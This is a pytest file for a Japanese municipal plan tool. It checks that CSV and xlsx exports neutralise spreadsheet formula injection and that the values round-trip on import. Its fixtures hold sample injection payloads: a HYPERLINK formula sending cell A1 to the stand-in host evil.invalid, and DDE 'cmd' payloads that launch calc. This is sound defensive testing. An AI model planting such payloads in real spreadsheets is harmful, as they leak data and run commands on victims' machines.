"""CSV/xlsx export never hands a spreadsheet a formula (issue 11, item 13): a cell starting with
``=``, ``+``, ``-``, ``@``, a tab or a CR is written with a leading ``'`` in CSV (OWASP) and as
a quote-prefixed text cell in xlsx; import drops the mark, so import → export → import gives
back the plans as written (the shipped ones too: tests/test_import_export.py)."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pytest
from conftest import NATIONAL, PLANS, CliResult
from test_import_export import _export, _load, assert_round_trip, summary

from model.analysis.table import frame
from model.core.national import load_national
from model.core.spreadsheet import FORMULA_START, formula_like, neutralised, restored, xlsx_cell
from model.project.lint import lint_paths

HOSTILE_NOTES = {
    "governance": '=HYPERLINK("http://evil.invalid/?x="&A1,"詳細")',
    "current_survey": "+1+cmd|' /C calc'!A0",
    "fit_gap": "-2+3",
    "migration_plan": "@SUM(1+1)*cmd|' /C calc'!A0",
    "vendor_selection": "普通のメモ (= ではじまらない)",
    "migration": "'=already marked",  # starts with the mark: marked once more, comes back as written
}
PLAN = (
    'municipality = "宇部市"\ncode = "352021"\nsurveyed = "R3.12"\n'
    '[phases]\ngovernance = "R4.10"\ncurrent_survey = "R4.9"\nfit_gap = "R6.3"\nmigration_plan = "R5.9"\n'
    'vendor_selection = "R6.6"\nmigration = "R8.3"\n[notes]\n'
    + "".join(
        f"{k} = {json.dumps(v, ensure_ascii=False)}\n" for k, v in HOSTILE_NOTES.items()
    )  # a JSON string is a TOML one
)


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    src = tmp_path / "src"
    src.mkdir()
    (src / "national.toml").write_text(NATIONAL.read_text("utf-8"), "utf-8")
    (src / "ube.toml").write_text(PLAN, "utf-8")
    assert {p.phases[k].note for p in _load(src) for k in HOSTILE_NOTES} == set(HOSTILE_NOTES.values())
    return src


def _csv_cells(path: Path) -> list[str]:
    return [v for row in csv.reader(io.StringIO(path.read_text("utf-8-sig"))) for v in row]


@pytest.mark.parametrize("table", ["long", "prefecture"])
def test_csv_cells_never_start_like_a_formula(hostile: Path, tmp_path: Path, table: str) -> None:
    cells = _csv_cells(_export(hostile, "csv", tmp_path / "out.csv", "--table", table))
    assert not [c for c in cells if c[:1] in FORMULA_START]
    if table == "long":
        for note in HOSTILE_NOTES.values():
            assert neutralised(note) in cells
        assert "'" + HOSTILE_NOTES["governance"] in cells


def test_xlsx_keeps_the_value_as_quote_prefixed_text(hostile: Path, tmp_path: Path) -> None:
    wb = openpyxl.load_workbook(_export(hostile, "xlsx", tmp_path / "out.xlsx"))
    cells = {c.value: c for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    for note in HOSTILE_NOTES.values():
        value, quoted = xlsx_cell(note)
        assert value == (note if not note.startswith("'") else "'" + note)  # a formula-like value as written
        c = cells[value]
        assert c.data_type == "s"  # text, never a formula
        assert c.quotePrefix is quoted is formula_like(note)
    assert not any(c.data_type == "f" for c in cells.values())


@pytest.mark.parametrize(("fmt", "extra"), [("csv", ("--table", "long")), ("csv", ()), ("xlsx", ())])
def test_import_export_import_round_trips_formula_like_notes(
    hostile: Path, tmp_path: Path, fmt: str, extra: tuple[str, ...]
) -> None:
    assert_round_trip(hostile, summary(_load(hostile)), tmp_path, fmt, *extra)


@pytest.mark.parametrize(
    "text", ["=1+1", "+81", "-", "@x", "\t=1", "\r=1", "'=already", "''-x", "'", "'x", "R4.10", "完了", "", "a=b"]
)
def test_neutralised_and_restored_are_inverse(text: str) -> None:
    assert restored(neutralised(text)) == text
    assert neutralised(text)[:1] not in FORMULA_START
    assert (neutralised(text) == text) is (text.lstrip("'")[:1] not in FORMULA_START)


def test_table_csv_neutralises_formulas(hostile: Path, cli: Callable[..., CliResult]) -> None:
    """``plans table --format csv`` writes through the same neutraliser as ``plans export``: a
    municipality named like a formula comes out with the mark, every other cell as it was."""
    plan = hostile / "ube.toml"
    plan.write_text(
        plan.read_text("utf-8").replace(
            'municipality = "宇部市"', 'municipality = "=HYPERLINK(\\"http://evil.invalid\\",\\"宇部\\")"'
        ),
        "utf-8",
    )
    r = cli("table", str(hostile), "--format", "csv")
    assert r.code == 0, r.err
    cells = [v for row in csv.reader(io.StringIO(r.out.removeprefix("\ufeff"))) for v in row]
    assert not [c for c in cells if c[:1] in FORMULA_START]
    assert "'" + '=HYPERLINK("http://evil.invalid","宇部")' in cells
    plain = cli("table", str(PLANS), "--format", "csv")  # the shipped plans: nothing to mark, the same bytes
    df = frame(lint_paths([PLANS]).plans, load_national(NATIONAL), "ja")
    assert plain.out == "\ufeff" + df.write_csv()


def test_stats_csv_neutralises_formulas(cli: Callable[..., CliResult], monkeypatch: pytest.MonkeyPatch) -> None:
    """``plans stats --format csv``: its labels come from the national data and the rules, none
    formula-like today (the output is as polars writes it); one that were is marked."""
    from model.analysis import stats

    plain = cli("stats", str(PLANS), "--format", "csv")
    assert plain.code == 0, plain.err
    cells = [v for row in csv.reader(io.StringIO(plain.out)) for v in row]
    assert not [c for c in cells if c[:1] in FORMULA_START] and len(cells) > 20
    rows = stats.rows

    def hostile_rows(s: stats.Stats, lang: str = "ja") -> list[dict[str, object]]:
        return [
            *rows(s, lang),
            {"section": "x", "key": "-1", "label": "=1+1", "count": 1, "error": None, "warning": None, "info": None},
        ]

    monkeypatch.setattr(stats, "rows", hostile_rows)
    r = cli("stats", str(PLANS), "--format", "csv")
    assert r.out.startswith(plain.out) and r.out[len(plain.out) :] == "x,'-1,'=1+1,1,,,\n"
